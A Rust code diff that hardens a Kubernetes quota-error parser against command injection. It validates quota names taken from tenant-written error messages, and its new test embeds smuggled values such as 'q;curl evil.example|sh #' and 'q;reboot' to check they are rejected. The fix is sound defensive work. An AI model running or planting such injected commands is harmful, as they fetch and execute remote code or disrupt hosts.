@@ -60,7 +60,7 @@ fn essence(message: &str) -> &str {
 
 fn exceeded(text: &str) -> Option<Refusal> {
     let (_, rest) = text.split_once("exceeded quota: ")?;
-    let (quota, rest) = rest.split_once(", requested: ")?;
+    let (quota, rest) = rest.split_once(", requested: ").filter(|(quota, _)| is_name(quota))?;
     let (asked, rest) = rest.split_once(", used: ")?;
     let (used, hard) = rest.split_once(", limited: ")?;
     let (used, hard) = (amounts(used), amounts(hard));
@@ -75,6 +75,12 @@ fn exceeded(text: &str) -> Option<Refusal> {
     (!lacking.is_empty()).then(|| Refusal::QuotaExceeded { quota: quota.to_owned(), lacking })
 }
 
+/// Returns true for the name of an object. Part of an error message is in the words of those whose pods are refused, and the name becomes part of a
+/// command.
+fn is_name(text: &str) -> bool {
+    !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_lowercase() || byte.is_ascii_digit() || b"-.".contains(&byte))
+}
+
 /// `pods=1,requests.cpu=500m`.
 fn amounts(text: &str) -> BTreeMap<&str, &str> {
     text.split(',').filter_map(|pair| pair.trim().split_once('=')).collect()
@@ -82,7 +88,7 @@ fn amounts(text: &str) -> BTreeMap<&str, &str> {
 
 fn unspecified(text: &str) -> Option<Refusal> {
     let (_, rest) = text.split_once("failed quota: ")?;
-    let (quota, what) = rest.split_once(": must specify ")?;
+    let (quota, what) = rest.split_once(": must specify ").filter(|(quota, _)| is_name(quota))?;
     Some(Refusal::Unspecified { quota: quota.to_owned(), what: what.to_owned() })
 }
 
@@ -107,6 +113,16 @@ mod tests {
     fn lacking(resource: &str, asked: &str, used: &str, hard: &str) -> Lacking {
         let [resource, asked, used, hard] = [resource, asked, used, hard].map(ToOwned::to_owned);
         Lacking { resource, asked, used, hard }
+    }
+
+    #[test]
+    fn no_command_is_made_of_what_a_tenant_wrote_into_a_message() {
+        let capability = "exceeded quota: q;curl evil.example|sh #, requested: a=1, used: a=1, limited: a=1";
+        let violations = format!("unrestricted capabilities (container \"web\" must not include \"{capability}\")");
+        let message = format!("pods \"web-1\" is forbidden: violates PodSecurity \"baseline:latest\": {violations}");
+        assert_eq!(classify(&message), Refusal::PodSecurity { level: "baseline".to_owned(), violations });
+        let failed = "pods \"web-1\" is forbidden: failed quota: q;reboot: must specify pods for: web";
+        assert!(matches!(classify(failed), Refusal::Other(_)));
     }
 
     #[test]
